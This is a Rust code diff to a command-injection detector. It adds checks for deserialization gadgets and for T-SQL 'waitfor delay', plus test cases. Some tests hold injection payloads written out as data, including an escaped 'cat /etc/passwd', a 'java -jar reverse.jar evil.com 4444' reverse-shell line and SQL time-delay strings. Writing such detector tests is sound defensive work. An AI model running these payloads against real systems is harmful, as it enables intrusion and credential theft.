@@ -70,7 +70,14 @@ pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
 fn detect_prefix(value: &[u8], p: Profile) -> Option<CmdiMatch> {
     let p = p.cut(value, MAX_VALUE);
     let v = &value[..value.len().min(MAX_VALUE)];
-    if let Some(class) = gadget::named(v) {
+    // (Every serialized object this reads has a `:` (PHP's fields, Ruby's `::`), a
+    // `(` (a text pickle's MARK) or a byte past ASCII (Java's and pickle's magic).)
+    let serialized = || {
+        p.any(class::COLON | class::PAREN | class::PATH_DECODE)
+            .then(|| gadget::serialized(v))
+            .flatten()
+    };
+    if let Some(class) = gadget::named(v).or_else(serialized) {
         return hit(&format!("deserialization {class}"));
     }
     // Without an operator (`; | & ` $ \n \r { ( < > %`) the only injection is a whole
@@ -308,6 +315,17 @@ fn command_here(w: &Word, op: Op, rest: &[Tok]) -> bool {
         return true;
     }
     let next = rest.first();
+    // T-SQL's `;waitfor delay '0:0:5'` is SQL (sqlmap puts any blank between the two,
+    // a line break too); Windows' `waitfor` takes `/t` and a name.
+    if text == b"waitfor" {
+        let word = rest.iter().find_map(|t| match t {
+            Tok::Word(w) => Some(w.text.as_slice()),
+            Tok::Op(_) => None,
+        });
+        if matches!(word, Some(b"delay" | b"time")) {
+            return false;
+        }
+    }
     let program = words::strong(text) || words::weak(text);
     match op {
         Op::Subst => words::strong(text) || (words::weak(text) && !words::tool(text)),
@@ -437,6 +455,27 @@ mod tests {
             "system; it is up to the author/donor to decide if he or she is willing",
             "\"History\"; likewise combine any sections Entitled \"Acknowledgements\",",
             "date; see the notes below",
+        ]);
+    }
+
+    /// Bash's ANSI-C quotes spell a name in escapes; the new programs of fray's lists.
+    #[test]
+    fn ansi_c_quoted_names_and_windows_delays() {
+        commands(&[
+            ";$'\\x69\\x64'",
+            ";$'\\151\\144'",
+            "| $'\\x63\\x61\\x74' /etc/passwd",
+            "; waitfor /t 5 pause",
+            "& choice /t 5 /d y",
+            ";ss -tulpn",
+            "; java -jar reverse.jar evil.com 4444",
+        ]);
+        prose(&[
+            "it costs $'5 or $'\\x35",
+            "I drink java; it is good",
+            "a choice; another choice",
+            "1;waitfor delay '0:0:5'--",
+            "1;WAITFOR\rDELAY\t'0:0:5'--",
         ]);
     }
 
